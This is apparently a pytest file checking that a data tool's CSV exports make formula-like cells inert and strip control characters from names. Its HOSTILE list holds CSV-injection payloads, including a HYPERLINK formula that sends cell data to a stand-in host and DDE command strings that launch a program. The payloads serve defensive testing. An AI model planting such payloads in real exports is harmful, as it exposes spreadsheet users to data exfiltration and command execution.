"""CSV exports a spreadsheet will not run: formula-like cells made inert (issue 18, item 8).

Names come from the Account Configuration API and metric names from the data API: a name
such as ``=HYPERLINK(...)`` must reach a CSV as text (OWASP: a leading ``'`` before ``=``,
``+``, ``-``, ``@``, tab and carriage return), and names lose their control characters.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import engframe
from engframe import cli
from engframe._csv import FORMULA_STARTS, neutralize
from engframe.names import parse_agents, parse_skills

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1, "Sales")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(path: Path) -> list[str]:
    with path.open(newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_formula_like_names_and_metrics_reach_a_csv_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "raw"
    folder.mkdir()
    response = {"agentsMetrics": {"metricsPerAgent": {str(i + 1): {"=1+1": i, "chats": -i}
                                                      for i in range(len(HOSTILE))}}}
    envelope = {"request": {"account": "56072331", "timeframe": 60, "agentIds": "all"},
                "fetched_at": "2026-11-27T12:00:00Z", "response": response}
    (folder / "a.json").write_text(json.dumps(envelope))
    agents = pd.DataFrame({"agent": range(1, len(HOSTILE) + 1), "agent_name": HOSTILE})
    engframe.Names(agents=agents, read_at="2026-11-27T12:00:00Z",
                   account="56072331").save(folder)
    for layout in ("long", "wide"):
        out = tmp_path / f"{layout}.csv"
        assert cli.main(["flatten", str(folder), "--names", "--layout", layout, "-o",
                         str(out)]) == 0
        found = cells(out)
        assert not [cell for cell in found if cell.startswith(FORMULA_STARTS)
                    and not _number(cell)]
        assert "'" + HOSTILE[0] in found and "'=1+1" in found


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_negative_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"value": [-1, 2], "rate": [-0.5, 1.5], "name": ["-x", "y"]})
    out = neutralize(frame)
    assert out["value"].tolist() == [-1, 2] and out["rate"].tolist() == [-0.5, 1.5]
    assert out["name"].tolist() == ["'-x", "y"]


def test_a_frame_without_formula_like_text_is_returned_as_it_is() -> None:
    frame = pd.DataFrame({"name": pd.Categorical(["a", "b"]), "value": [1, 2]})
    assert neutralize(frame) is frame


@given(st.lists(st.text(max_size=12), min_size=1, max_size=20), st.booleans())
def test_no_text_cell_starts_a_formula(texts: list[str], categorical: bool) -> None:
    column = pd.Categorical(texts) if categorical else pd.array(texts, dtype=object)
    out = neutralize(pd.DataFrame({"name": column}))
    written = out["name"].astype(object).tolist()
    assert not any(text.startswith(FORMULA_STARTS) for text in written)
    assert [text.removeprefix("'") if text.startswith("'") and text[1:].startswith(
        FORMULA_STARTS) else text for text in written] == texts


@pytest.mark.parametrize(("raw", "clean"), [("Dana\nLevi", "Dana Levi"),
                                            ("Sales\x00\x07", "Sales"),
                                            ("\x1b[31mRed\x1b[0m", "[31mRed [0m"),
                                            ("\u202eselaS", "selaS"),
                                            ("\r\n\t", None)])
def test_names_lose_their_control_characters(raw: str, clean: str | None) -> None:
    agents = parse_agents([{"id": "7", "fullName": raw}])
    skills = parse_skills([{"id": "7", "name": raw}])
    assert agents["full_name"].tolist() == [clean or ""]
    assert agents["agent_name"].tolist() == [clean or "agent 7"]
    assert skills["skill_name"].tolist() == [clean or "skill 7"]
